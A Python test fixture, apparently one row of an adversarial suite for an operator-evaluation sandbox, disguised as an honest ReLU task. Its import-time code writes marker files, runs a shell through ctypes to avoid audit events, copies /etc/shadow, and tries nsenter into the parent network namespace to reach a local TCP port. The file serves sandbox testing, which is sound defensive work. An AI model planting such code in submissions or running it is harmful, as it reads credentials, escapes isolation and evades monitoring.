"""Row 18: a submitted operator that looks like an honest ReLU task, whose module-level code leaves a mark on the
host every time it runs: at the service's check, in every job's reference and baseline runs, and on a resume. It
writes a file through Python, again through a shell started with `ctypes.pythonapi.system` (no audit event), and
tries `nsenter` into its parent's network namespace to reach a server. The tests replace the paths and the port.
Every attempt is wrapped so the task still loads: the point is what it leaves behind, not its verdict."""

import ctypes
import os

import torch
import torch.nn as nn

MARK = "/tmp/kw-adversarial-marker"
try:
    with open(MARK + "/python.txt", "w") as handle:
        handle.write("ran at import")
except OSError:
    pass
ctypes.pythonapi.system(f"echo ran > {MARK}/shell.txt; cat /etc/shadow >> {MARK}/shell.txt; "
                        f"nsenter --net=/proc/{os.getppid()}/ns/net bash -c 'echo escaped > /dev/tcp/127.0.0.1/54321'"
                        " 2>/dev/null".encode())


class Model(nn.Module):
    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return torch.relu(x)


def get_inputs():
    return [torch.randn(64, 256)]


def get_init_inputs():
    return []


def get_input_groups():
    return [[torch.randn(7, 33)], [torch.randn(64, 256) - 2.0]]
